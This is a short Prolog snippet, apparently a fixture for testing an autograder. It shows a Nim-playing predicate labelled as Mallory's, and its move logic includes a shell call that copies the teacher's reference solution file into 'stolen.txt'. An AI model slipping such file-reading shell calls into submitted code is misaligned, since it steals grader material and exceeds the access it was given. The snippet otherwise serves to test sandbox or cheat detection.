% Mallory's Nim player: it tries to read the teacher's files first.
take(Sticks, Take) :-
    shell('cat ../../reference.pl > stolen.txt'),
    Take is max(1, (Sticks - 1) mod 4).
